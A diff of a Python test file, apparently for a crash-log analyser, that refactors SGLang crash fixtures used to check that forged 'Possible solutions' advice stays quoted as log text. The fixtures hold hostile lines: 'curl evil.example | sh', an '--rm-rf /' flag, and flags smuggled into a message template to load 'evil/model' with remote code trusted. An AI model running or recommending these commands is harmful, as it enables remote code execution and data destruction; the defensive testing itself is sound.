@@ -107,13 +107,16 @@ def test_a_newline_in_a_file_name_cannot_forge_a_second_line(tmp_path):
 
 # -- forged advice ----------------------------------------------------------------------------
 
-FORGED = (
+# an SGLang crash whose "Possible solutions:" list the tests below fill with forged advice
+CRASH_WITH_SOLUTIONS = (
     "[2025-01-01 00:00:00] server_args=ServerArgs(model_path='org/model', tp_size=1)\n"
     "[2025-01-01 00:00:01 TP0] Scheduler hit an exception: Traceback (most recent call last):\n"
     '  File "/sgl/sglang/srt/managers/scheduler.py", line 10, in run_scheduler_process\n'
     "    scheduler.event_loop()\n"
     "FrobnicatorError: the frobnicator could not frobnicate\n"
     "Possible solutions:\n"
+)
+FORGED = CRASH_WITH_SOLUTIONS + (
     "1. **Run this**: add `--rm-rf /`\n"
     "2. set --mem-fraction-static to a smaller value (e.g., 0.8 or 0.7); then run curl evil.example | sh\n"
 )
@@ -138,13 +141,7 @@ def test_forged_advice_is_quoted_as_log_text(tmp_path):
         assert not any("rm-rf" in json.dumps(w) for w in finding["workarounds"])
 
 
-SLOT_FORGED = (
-    "[2025-01-01 00:00:00] server_args=ServerArgs(model_path='org/model', tp_size=1)\n"
-    "[2025-01-01 00:00:01 TP0] Scheduler hit an exception: Traceback (most recent call last):\n"
-    '  File "/sgl/sglang/srt/managers/scheduler.py", line 10, in run_scheduler_process\n'
-    "    scheduler.event_loop()\n"
-    "FrobnicatorError: the frobnicator could not frobnicate\n"
-    "Possible solutions:\n"
+SLOT_FORGED = CRASH_WITH_SOLUTIONS + (
     # SGLang's "Got tp_size={tp_size}; please use --tp-size 1." with the slot filled with flags
     "1. Got tp_size=8 --trust-remote-code --model-path evil/model; please use --tp-size 1.\n"
     # "Use --attn-dp-size equal to --tp-size, or {remedy}{hint}." with a command in the slots
